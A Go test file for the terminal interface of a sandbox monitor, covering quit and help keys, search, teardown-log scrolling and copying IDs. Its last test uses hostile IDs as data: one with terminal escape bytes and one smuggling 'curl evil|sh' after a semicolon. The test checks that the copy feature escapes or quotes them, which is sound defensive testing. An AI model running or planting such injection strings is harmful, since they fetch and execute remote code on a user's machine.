package ui

import (
	"strings"
	"testing"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/sandtop/sandtop/model/query"
)

// TestForceQuitEverywhere: ctrl+c is a binding of its own and quits from
// every mode, the text fields included, where q is typed text.
func TestForceQuitEverywhere(t *testing.T) {
	for _, open := range [][]string{nil, {"/"}, {"f3"}, {"K"}} {
		m := newTestModel(t, &fakeSource{views: fleetViews(1)}, &fakeKiller{})
		settle(m, size(120, 30), m.Init()())
		settle(m, keys(open...)...)
		cmd := m.key(keyMsg("ctrl+c"))
		if cmd == nil {
			t.Fatalf("after %v: ctrl+c did nothing", open)
		}
		if _, ok := cmd().(tea.QuitMsg); !ok {
			t.Errorf("after %v: ctrl+c did not quit", open)
		}
	}
}

// TestHelpKeyNamesWhatItDoes: ? is two bindings, show and close, and the
// help line names only the one that applies.
func TestHelpKeyNamesWhatItDoes(t *testing.T) {
	m := newTestModel(t, &fakeSource{views: fleetViews(1)}, &fakeKiller{})
	settle(m, size(160, 40), m.Init()())
	if v := m.View(); !strings.Contains(v, "more keys") || strings.Contains(v, "fewer keys") {
		t.Errorf("short help:\n%s", v)
	}
	settle(m, keys("?")...)
	if v := m.View(); !strings.Contains(v, "fewer keys") || strings.Contains(v, "more keys") {
		t.Errorf("full help:\n%s", v)
	}
	settle(m, keys("?")...)
	if m.help.ShowAll || !m.keys.ShowHelp.Enabled() || m.keys.CloseHelp.Enabled() {
		t.Error("? did not close the full help")
	}
}

// TestSearchLooksIntoCollapsedSandboxes: a search for a member's argv
// finds it inside a collapsed sandbox, opens that sandbox and lands on the
// member; F3 after enter goes on to the next match.
func TestSearchLooksIntoCollapsedSandboxes(t *testing.T) {
	m := newTestModel(t, &fakeSource{views: fleetViews(1)}, &fakeKiller{})
	settle(m, size(120, 30), m.Init()())
	settle(m, keys("f3")...)
	settle(m, typeText("sh")...)
	r := m.table.selected()
	if r == nil || r.kind != rowMember || !query.MatchProcess(r.p, "sh") || !m.expanded[r.key.sandbox] {
		t.Fatalf("search landed on %+v, want a member matching sh in an opened sandbox (status %q)", r, m.status)
	}
	first := r.key
	settle(m, keys("enter")...)
	settle(m, keys("f3")...)
	if r := m.table.selected(); r == nil || r.key == first || !query.MatchProcess(r.p, "sh") {
		t.Errorf("F3 after enter stayed on %+v, want the next match", r)
	}
	if m.status != "" {
		t.Errorf("status %q", m.status)
	}
}

// TestTeardownLogScrollsToItsStart: after a 3-target kill in a 45-row
// window the log is longer than its pane; with the focus, g (and Home,
// PgUp) reach the first target's plan, G the end, and the log ends with a
// summary of the whole batch that stays on the status line after esc.
func TestTeardownLogScrollsToItsStart(t *testing.T) {
	m := newTestModel(t, &fakeSource{views: fleetViews(1)}, &fakeKiller{})
	settle(m, size(120, 45), m.Init()())
	tag(idVM0, idOrphan, idPaused)(t, m)
	settle(m, keys("a", "e")...) // a long list, as on a real host: the table keeps its share
	settle(m, keys("K")...)
	settle(m, keys(append(spell("yes"), "enter")...)...)
	if !m.panel.open || m.panel.running != 0 {
		t.Fatalf("panel open %v, running %d", m.panel.open, m.panel.running)
	}
	if len(m.panel.lines) <= m.panel.vp.Height {
		t.Fatalf("the log (%d lines) fits its pane (%d): nothing to scroll", len(m.panel.lines), m.panel.vp.Height)
	}
	last := m.panel.lines[len(m.panel.lines)-1]
	if !strings.Contains(last, "finished: 3 targets:") || !strings.Contains(last, "killed") || !strings.Contains(last, "survivors") {
		t.Errorf("the log ends with %q, want the batch summary", last)
	}
	for _, top := range []string{"g", "home", "pgup"} {
		settle(m, keys("G")...)
		for range 20 {
			settle(m, keys(top)...)
		}
		if !m.panel.vp.AtTop() || !strings.Contains(m.View(), "▶ "+idVM0[:16]) {
			t.Errorf("%s: the log's start is not in view (offset %d)", top, m.panel.vp.YOffset)
		}
	}
	settle(m, keys("G")...)
	if !m.panel.vp.AtBottom() {
		t.Error("G: not at the end")
	}
	settle(m, keys("esc")...)
	if m.panel.open || !strings.Contains(m.statusView(), "last teardown: 3 targets") {
		t.Errorf("after esc: panel open %v, status %q", m.panel.open, m.statusView())
	}
	settle(m, keys("j")...)
	if !strings.Contains(m.statusView(), "last teardown: 3 targets") {
		t.Errorf("the summary left the status line at the next key: %q", m.statusView())
	}
}

// TestCopyID: c copies the selected sandbox's full ID (a process's pid)
// through the clipboard Cmd, never in Update.
func TestCopyID(t *testing.T) {
	m := newTestModel(t, &fakeSource{views: fleetViews(1)}, &fakeKiller{})
	var got []string
	m.clipboard = func(s string) tea.Cmd { return func() tea.Msg { got = append(got, s); return nil } }
	settle(m, size(120, 30), m.Init()())
	cmd := m.key(keyMsg("c"))
	if len(got) != 0 {
		t.Fatal("copied in Update")
	}
	settle(m, cmd())
	if want := m.table.selected().sb.ID; len(got) != 1 || got[0] != want || !strings.Contains(m.status, want) {
		t.Errorf("copied %v, status %q; want %s", got, m.status, want)
	}
}

// TestCopyIDHostile: an ID is what a process chose. One with bytes a
// terminal acts on is not copied (the status line shows it escaped); one
// with characters a shell acts on is copied quoted, one word.
func TestCopyIDHostile(t *testing.T) {
	for _, c := range []struct{ id, want, status string }{
		{"x\x1b]0;pwned\a\ncurl evil|sh", "", `x\x1b]0;pwned\a\ncurl`},
		{"x;curl${IFS}evil|sh", `'x;curl${IFS}evil|sh'`, `quoted for a shell`},
	} {
		m := newTestModel(t, &fakeSource{views: fleetViews(1)}, &fakeKiller{})
		var got []string
		m.clipboard = func(s string) tea.Cmd { return func() tea.Msg { got = append(got, s); return nil } }
		settle(m, size(250, 30), m.Init()())
		r := m.table.selected()
		sb := *r.sb
		sb.ID = c.id
		r.sb = &sb
		if cmd := m.key(keyMsg("c")); cmd != nil {
			settle(m, cmd())
		}
		switch {
		case c.want == "" && len(got) != 0:
			t.Errorf("%q: copied %q", c.id, got)
		case c.want != "" && (len(got) != 1 || got[0] != c.want):
			t.Errorf("%q: copied %q, want %q", c.id, got, c.want)
		}
		if sv := m.statusView(); !strings.Contains(sv, c.status) || strings.ContainsAny(sv, "\a\n") || strings.Contains(sv, "\x1b]") {
			t.Errorf("%q: status line %q", c.id, sv)
		}
	}
}
